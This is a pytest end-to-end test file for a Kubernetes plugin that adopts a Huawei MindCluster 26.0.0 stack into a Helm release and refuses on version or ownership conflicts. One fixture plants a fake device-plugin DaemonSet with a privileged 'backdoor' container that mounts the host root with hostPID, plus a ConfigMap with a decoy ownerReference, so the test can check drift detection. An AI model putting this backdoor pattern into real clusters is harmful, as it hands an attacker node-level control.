"""`install --adopt` on a real API server: a MindCluster 26.0.0 applied with kubectl from Huawei-shaped YAML.

Each test gets its own cluster (`--no-volcano`: the Volcano addon would start on the
ServiceAccounts of Huawei's YAML), labelled with `label-node`, and the YAML of
tests/e2e/data/huawei-v26.0.0/ applied with `kubectl apply` (names, namespaces,
selectors and labels of Huawei's files; each object cites its upstream file).

Scenarios:
- `install` without --adopt: refused before any change, the message lists the objects and
  suggests --adopt (not Helm's "exists and cannot be imported"); the cluster is unchanged
  (a hash of every object's metadata and spec in the stack's namespaces, the cluster RBAC,
  CRDs, namespaces and the Helm releases);
- `install --adopt --dry-run -o json`: the plan (adopt/replace per object), nothing changed;
- `install --adopt --wait`: the release owns every object; adopted ones keep their uid,
  replaced workloads are new with the chart's selectors, Huawei's 310P device plugin (a name the
  chart does not use) is deleted, and so are Huawei's RBAC objects under other names
  (volcano-scheduler-role, volcano-controllers-role, the per-family device-plugin ServiceAccounts,
  ClusterRoles and bindings); pods Running, exactly one device plugin pod per NPU node, all
  the release's, none left with Huawei's labels; `status` lists the
  components, `doctor` has no FAIL; a rerun takes nothing over and recreates nothing;
- a running release other than the one install would run (26.1.0 tags) is refused; with
  --mindcluster-version 26.1.0 the plan adopts it (dry run); an object owned by another Helm
  release (Huawei's helm_tool.sh names its release `mindcluster` in `default`) is refused
  with that release's name; the cluster is unchanged after each refusal;
- a hostile plant (issue 22): the chart's own 910 device-plugin DaemonSet (so Helm could adopt it in
  place) with an extra privileged `backdoor` container, hostPath / and hostPID, and the chart's
  volcano-scheduler-configmap with a controller ownerReference to a decoy ConfigMap. install and
  install --adopt refuse, naming each difference, and change nothing (resourceVersions, the metadata
  and spec hash, no release); with --accept-drift the DaemonSet is recreated from the chart (no pod runs
  the backdoor) and the ConfigMap loses its ownerReference: deleting the decoy makes the garbage
  collector delete a canary it owns, and the Helm-managed ConfigMap stays.
"""
from __future__ import annotations

import hashlib
import json
import time
from pathlib import Path

import pytest

from tests.clusters import Cluster, reset_stack
from tests.tooling import need_tool, run

pytestmark = pytest.mark.e2e

DATA = Path(__file__).resolve().parent / "data" / "huawei-v26.0.0"
#: applied in this order (the operator's YAML needs mindx-dl, created by hand in Huawei's guide)
FILES = ("namespaces.yaml", "device-plugin-volcano-v26.0.0.yaml", "device-plugin-310P-volcano-v26.0.0.yaml",
         "volcano-v1.7.0.yaml", "ascend-operator-v26.0.0.yaml")
NAMESPACED = "serviceaccounts,configmaps,services,daemonsets,deployments,roles,rolebindings"
CLUSTER_KINDS = "clusterroles,clusterrolebindings,customresourcedefinitions,namespaces"
WORKLOADS = {("DaemonSet", "kube-system", "ascend-device-plugin-daemonset-910"),
             ("Deployment", "mindx-dl", "ascend-operator-manager"),
             ("Deployment", "volcano-system", "volcano-controllers"),
             ("Deployment", "volcano-system", "volcano-scheduler")}
#: Huawei's 310P device plugin: a name the chart does not use (its own is ascend-device-plugin-daemonset-310p)
HUAWEI_310P = ("DaemonSet", "kube-system", "ascend-device-plugin3-daemonset-310p")
#: Huawei's RBAC under names the charts do not use, planted by the YAML above (volcano-v1.7.0.yaml,
#: device-plugin-*-v26.0.0.yaml): Volcano's bindings and the per-family device-plugin ServiceAccounts,
#: ClusterRoles and bindings. The chart's own RBAC replaces them.
HUAWEI_RBAC = {("ClusterRoleBinding", "", "volcano-scheduler-role"),
               ("ClusterRoleBinding", "", "volcano-controllers-role"),
               *((k, ns, f"{n}-{fam}") for fam in ("910", "310p") for k, ns, n in (
                   ("ServiceAccount", "kube-system", "ascend-device-plugin-sa"),
                   ("ClusterRole", "", "pods-node-ascend-device-plugin-role"),
                   ("ClusterRoleBinding", "", "pods-node-ascend-device-plugin-rolebinding")))}


def _start(c: Cluster, replace: dict[str, str] | None = None) -> Cluster:
    """The shared no-Volcano cluster, clean (reset_stack), labelled, running Huawei's YAML."""
    reset_stack(c)
    for args in (("label-node", "--all"), ("label-node", "mgmt-0", "--role", "master")):
        proc = c.plugin(*args)
        assert proc.returncode == 0, proc.stderr
    for f in FILES:
        text = (DATA / f).read_text()
        for old, new in (replace or {}).items():
            text = text.replace(old, new)
        c.kubectl("apply", "-f", "-", input=text)
    for kind, ns, name in WORKLOADS | {HUAWEI_310P}:
        c.kubectl("rollout", "status", "-n", ns, f"{kind.lower()}/{name}", "--timeout=120s")
    return c


@pytest.fixture
def huawei_stack(novolcano_cluster):
    """A clean cluster running Huawei's 26.0.0 YAML, no Helm release."""
    return _start(novolcano_cluster)


@pytest.fixture
def huawei_261_stack(novolcano_cluster):
    """The same YAML with 26.1.0 image tags (as an operator of 26.1.0 would have them)."""
    return _start(novolcano_cluster, {":v26.0.0": ":v26.1.0-openeuler24.03", "-v26.0.0": "-v26.1.0"})


def _helm(c: Cluster, *args: str) -> str:
    return run([need_tool("helm"), "--kubeconfig", c.kubeconfig, *args]).stdout


def _objects(c: Cluster) -> dict[tuple[str, str, str], dict]:
    """Every object that install could touch, by (kind, namespace, name)."""
    items = []
    for ns in ("kube-system", "volcano-system", "mindx-dl"):
        items += c.get_json(NAMESPACED, "-n", ns)["items"]
    items += c.get_json(CLUSTER_KINDS)["items"]
    return {(o["kind"], o["metadata"].get("namespace", ""), o["metadata"]["name"]): o for o in items}


def _state(c: Cluster) -> str:
    """A hash of what a refused install must not change: metadata (uid, labels, annotations) and spec."""
    def view(o: dict) -> dict:
        m = o["metadata"]
        return {"uid": m["uid"], "labels": m.get("labels"), "annotations": m.get("annotations"),
                "spec": o.get("spec"), "rules": o.get("rules"), "roleRef": o.get("roleRef"), "data": o.get("data")}

    objs = {"/".join(k): view(o) for k, o in _objects(c).items()}
    releases = _helm(c, "list", "-A", "--failed", "--pending", "--deployed", "-o", "json")
    return hashlib.sha256(json.dumps([objs, releases], sort_keys=True).encode()).hexdigest()


def _refused(c: Cluster, before: str, *args: str) -> str:
    proc = c.plugin("install", *args)
    assert proc.returncode == 1, (proc.stdout, proc.stderr)
    assert proc.stderr.startswith("error: ") and "nothing was changed" in proc.stderr, proc.stderr
    assert "exists and cannot be imported" not in proc.stderr
    assert _state(c) == before
    return proc.stderr


def test_adopt_a_huawei_260_stack(huawei_stack):
    c = huawei_stack
    before = _state(c)
    uids = {k: o["metadata"]["uid"] for k, o in _objects(c).items()}

    err = _refused(c, before)
    assert "already exist without Helm's ownership" in err and "Rerun with --adopt" in err
    for kind, ns, name in WORKLOADS:
        assert f"{kind} {ns}/{name}" in err
    assert "CustomResourceDefinition queues.scheduling.volcano.sh" in err
    assert "Huawei's device plugin runs as DaemonSet kube-system/ascend-device-plugin3-daemonset-310p" in err
    assert "Huawei's RBAC exists under names the chart does not use: ClusterRoleBinding volcano-scheduler-role" in err

    proc = c.plugin("install", "--adopt", "--dry-run", "-o", "json")
    assert proc.returncode == 0, proc.stderr
    plan = {(o["kind"], o["namespace"], o["name"]): o["action"] for o in json.loads(proc.stdout)["adoption"]["objects"]}
    assert {k for k, a in plan.items() if a == "replace"} == WORKLOADS
    assert plan.pop(HUAWEI_310P) == "remove"
    assert {k: plan.pop(k) for k in HUAWEI_RBAC if k in plan} == dict.fromkeys(HUAWEI_RBAC, "remove")
    assert {a for k, a in plan.items() if k not in WORKLOADS} == {"adopt"}
    assert ("ClusterRoleBinding", "", "ascend-operator-manager-rolebinding") in plan
    assert json.loads(proc.stdout)["adoption"]["runningVersion"] == "26.0.0"
    assert _state(c) == before

    proc = c.plugin("install", "--adopt", "--wait", "--timeout", "3m")
    assert proc.returncode == 0, proc.stderr
    assert "Taking over 27 existing object(s)" in proc.stdout
    assert "deleted ClusterRoleBinding volcano-scheduler-role\n" in proc.stdout
    assert "deleted DaemonSet kube-system/ascend-device-plugin-daemonset-910 (Helm creates it again)" in proc.stdout
    assert "deleted DaemonSet kube-system/ascend-device-plugin3-daemonset-310p\n" in proc.stdout
    after = _objects(c)
    assert HUAWEI_310P not in after
    assert not HUAWEI_RBAC & set(after), "Huawei's RBAC under other names is left"
    for key, action in plan.items():
        obj = after[key]
        assert obj["metadata"]["labels"]["app.kubernetes.io/managed-by"] == "Helm", key
        assert obj["metadata"]["annotations"]["meta.helm.sh/release-name"] == "ascend-stack", key
        assert obj["metadata"]["annotations"]["meta.helm.sh/release-namespace"] == "mindx-dl", key
        assert (obj["metadata"]["uid"] == uids[key]) == (action == "adopt"), key
    ds = after[("DaemonSet", "kube-system", "ascend-device-plugin-daemonset-910")]
    assert ds["spec"]["selector"]["matchLabels"]["app.kubernetes.io/instance"] == "ascend-stack"
    nodes_910 = c.get_json("nodes", "-l", "accelerator=huawei-Ascend910")["items"]
    pods = c.get_json("pods", "-n", "kube-system", "-l", ",".join(
        f"{k}={v}" for k, v in ds["spec"]["selector"]["matchLabels"].items()))["items"]
    assert sorted(p["spec"]["nodeName"] for p in pods) == sorted(n["metadata"]["name"] for n in nodes_910)
    assert {p["status"]["phase"] for p in pods} == {"Running"}
    # one device plugin per NPU node, all of them the release's
    plugin_pods = [p for p in c.get_json("pods", "-n", "kube-system")["items"]
                   if p["metadata"]["name"].startswith("ascend-device-plugin")]
    npu_nodes = c.get_json("nodes", "-l", "accelerator")["items"]
    assert sorted(p["spec"]["nodeName"] for p in plugin_pods) == sorted(n["metadata"]["name"] for n in npu_nodes)
    assert {p["metadata"]["labels"].get("app.kubernetes.io/instance") for p in plugin_pods} == {"ascend-stack"}
    for ns, label in (("kube-system", "name=ascend-device-plugin-ds"), ("volcano-system", "app=volcano-scheduler"),
                      ("volcano-system", "app=volcano-controller"), ("mindx-dl", "app=controller-manager")):
        assert c.get_json("pods", "-n", ns, "-l", label)["items"] == [], f"{label}: Huawei's pods are left"
    for ns in ("volcano-system", "mindx-dl"):
        pods = c.get_json("pods", "-n", ns)["items"]
        assert pods and {p["status"]["phase"] for p in pods} == {"Running"}, ns
    assert [r["name"] for r in json.loads(_helm(c, "list", "-n", "mindx-dl", "-o", "json"))] == ["ascend-stack"]

    status = json.loads(c.plugin("status", "-o", "json", check=True).stdout)
    assert {(x["kind"], x["namespace"], x["name"]) for x in status["components"]} >= WORKLOADS
    assert all(x["ready"] == x["desired"] for x in status["components"]), status["components"]
    doctor = c.plugin("doctor", "-o", "json")
    assert [x for x in json.loads(doctor.stdout)["checks"] if x["status"] == "FAIL"] == []
    assert doctor.returncode == 0

    adopted = {k: o["metadata"]["uid"] for k, o in _objects(c).items()}
    proc = c.plugin("install", "--adopt", "-o", "json")
    assert proc.returncode == 0, proc.stderr
    assert json.loads(proc.stdout)["adopted"] == []
    assert "--adopt: nothing to take over" in proc.stderr
    assert {k: o["metadata"]["uid"] for k, o in _objects(c).items()} == adopted


def test_adopt_refuses_another_release_and_another_version(huawei_261_stack):
    c = huawei_261_stack
    before = _state(c)
    err = _refused(c, before, "--adopt")
    assert "MindCluster 26.1.0 runs here but this install would run 26.0.0" in err
    assert "--mindcluster-version 26.1.0" in err
    # with --mindcluster-version 26.1.0 the chart renders 26.1.0 (the profile): the versions agree
    plan = c.plugin("install", "--adopt", "--mindcluster-version", "26.1.0", "--dry-run", "-o", "json")
    assert plan.returncode == 0, plan.stderr
    data = json.loads(plan.stdout)
    assert data["mindcluster"]["version"] == "26.1.0" and data["adoption"]["objects"]
    assert data["adoption"]["runningVersion"] == "26.1.0"
    assert _state(c) == before
    err = _refused(c, before, "--adopt", "--dry-run")
    assert "MindCluster 26.1.0 runs here" in err

    # Huawei's helm_tool.sh adopts into its own release: mindcluster in namespace default
    c.kubectl("annotate", "-n", "volcano-system", "configmap/volcano-scheduler-configmap",
              "meta.helm.sh/release-name=mindcluster", "meta.helm.sh/release-namespace=default")
    c.kubectl("label", "-n", "volcano-system", "configmap/volcano-scheduler-configmap",
              "app.kubernetes.io/managed-by=Helm")
    before = _state(c)
    err = _refused(c, before, "--adopt")
    assert ("ConfigMap volcano-system/volcano-scheduler-configmap belongs to Helm release mindcluster in "
            "namespace default") in err


#: labels of the chart's 910 device plugin for release ascend-stack (its selector: charts/ascend-device-plugin)
PLUGIN_LABELS = {"app.kubernetes.io/instance": "ascend-stack", "app.kubernetes.io/name": "ascend-device-plugin",
                 "ascend.huawei.com/family": "910"}
PLUGIN = ("DaemonSet", "kube-system", "ascend-device-plugin-daemonset-910")
SCHED_CM = ("ConfigMap", "volcano-system", "volcano-scheduler-configmap")


def _planted_plugin() -> dict:
    return {
        "apiVersion": "apps/v1", "kind": "DaemonSet",
        "metadata": {"name": PLUGIN[2], "namespace": PLUGIN[1]},
        "spec": {"selector": {"matchLabels": PLUGIN_LABELS}, "template": {
            "metadata": {"labels": PLUGIN_LABELS},
            "spec": {
                "nodeSelector": {"accelerator": "huawei-Ascend910"},
                "tolerations": [{"operator": "Exists"}],
                "hostPID": True,
                "containers": [
                    {"name": "device-plugin",
                     "image": "swr.cn-south-1.myhuaweicloud.com/ascendhub/ascend-k8sdeviceplugin:v26.0.0"},
                    {"name": "backdoor", "image": "evil.example/tools:1", "securityContext": {"privileged": True},
                     "volumeMounts": [{"name": "host-root", "mountPath": "/host"}]}],
                "volumes": [{"name": "host-root", "hostPath": {"path": "/"}}]}}}}


def _owned_by(decoy: dict, name: str, data: dict) -> dict:
    return {"apiVersion": "v1", "kind": "ConfigMap", "metadata": {
        "name": name, "namespace": SCHED_CM[1],
        "ownerReferences": [{"apiVersion": "v1", "kind": "ConfigMap", "name": decoy["metadata"]["name"],
                             "uid": decoy["metadata"]["uid"], "controller": True}]}, "data": data}


@pytest.fixture
def hostile_plant(novolcano_cluster):
    """A clean labelled cluster (reset_stack) with the two hostile objects of issue 22, no Helm release."""
    c = novolcano_cluster
    reset_stack(c)
    for args in (("label-node", "--all"), ("label-node", "mgmt-0", "--role", "master")):
        proc = c.plugin(*args)
        assert proc.returncode == 0, proc.stderr
    c.kubectl("create", "namespace", SCHED_CM[1])
    c.kubectl("create", "configmap", "-n", SCHED_CM[1], "decoy")
    decoy = c.get_json("configmap", "-n", SCHED_CM[1], "decoy")
    for obj in (_planted_plugin(), _owned_by(decoy, SCHED_CM[2], {"volcano-scheduler.conf": "actions: enqueue"}),
                _owned_by(decoy, "gc-canary", {})):
        c.kubectl("create", "-f", "-", input=json.dumps(obj))
    c.kubectl("rollout", "status", "-n", PLUGIN[1], f"daemonset/{PLUGIN[2]}", "--timeout=120s")
    return c


def _versions(c: Cluster) -> dict:
    return {k: (o["metadata"]["uid"], o["metadata"]["resourceVersion"]) for k, o in _objects(c).items()
            if k in (PLUGIN, SCHED_CM)}


def test_adopt_refuses_drift_and_accepted_drift_keeps_nothing_of_the_plant(hostile_plant):
    c = hostile_plant
    before, versions = _state(c), _versions(c)
    assert len(versions) == 2
    differences = ("DaemonSet kube-system/ascend-device-plugin-daemonset-910 differs from the chart",
                   "hostPID true (chart: false)",
                   "extra container 'backdoor' (image 'evil.example/tools:1', privileged) the chart does not have",
                   "hostPath volume 'host-root' path '/' the chart does not have",
                   "ConfigMap volcano-system/volcano-scheduler-configmap differs from the chart",
                   "controller ownerReference to ConfigMap 'decoy'")
    for args in ((), ("--adopt",), ("--adopt", "--dry-run")):
        err = _refused(c, before, *args)
        for d in differences:
            assert d in err, (d, err)
        assert "--accept-drift" in err
        assert _versions(c) == versions, args

    proc = c.plugin("install", "--adopt", "--accept-drift", "--dry-run", "-o", "json")
    assert proc.returncode == 0, proc.stderr
    rows = {(o["kind"], o["namespace"], o["name"]): o for o in json.loads(proc.stdout)["adoption"]["objects"]}
    assert rows[PLUGIN]["action"] == "replace" and "extra container 'backdoor'" in rows[PLUGIN]["reason"]
    assert rows[SCHED_CM]["action"] == "adopt" and rows[SCHED_CM]["removeOwnerReferences"] is True
    assert rows[SCHED_CM]["drift"][0].startswith("controller ownerReference to ConfigMap 'decoy'")
    assert _state(c) == before and _versions(c) == versions

    proc = c.plugin("install", "--adopt", "--accept-drift", "--wait", "--timeout", "3m")
    assert proc.returncode == 0, proc.stderr
    assert "adopted ConfigMap volcano-system/volcano-scheduler-configmap (ownerReferences removed)" in proc.stdout
    assert f"deleted DaemonSet {PLUGIN[1]}/{PLUGIN[2]} (Helm creates it again)" in proc.stdout
    after = _objects(c)
    ds, cm = after[PLUGIN], after[SCHED_CM]
    assert ds["metadata"]["uid"] != versions[PLUGIN][0]
    pod = ds["spec"]["template"]["spec"]
    assert [x["name"] for x in pod["containers"]] == ["device-plugin"] and not pod.get("hostPID")
    assert "/" not in [(v.get("hostPath") or {}).get("path") for v in pod["volumes"]]
    pods = c.get_json("pods", "-n", PLUGIN[1])["items"]
    assert [p for p in pods if p["metadata"]["name"].startswith("ascend-device-plugin")]
    assert [p["metadata"]["name"] for p in pods if "backdoor" in {x["name"] for x in p["spec"]["containers"]}] == []
    assert cm["metadata"]["uid"] == versions[SCHED_CM][0] and not cm["metadata"].get("ownerReferences")
    assert cm["metadata"]["annotations"]["meta.helm.sh/release-name"] == "ascend-stack"

    # the garbage collector runs here (it deletes the canary the decoy owns) and leaves the adopted ConfigMap
    c.kubectl("delete", "configmap", "-n", SCHED_CM[1], "decoy")
    deadline = time.monotonic() + 60
    while c.kubectl("get", "configmap", "-n", SCHED_CM[1], "gc-canary", "--ignore-not-found", "-o", "name").stdout:
        assert time.monotonic() < deadline, "the garbage collector did not delete gc-canary"
        time.sleep(1)
    assert c.get_json("configmap", "-n", SCHED_CM[1], SCHED_CM[2])["metadata"]["uid"] == versions[SCHED_CM][0]
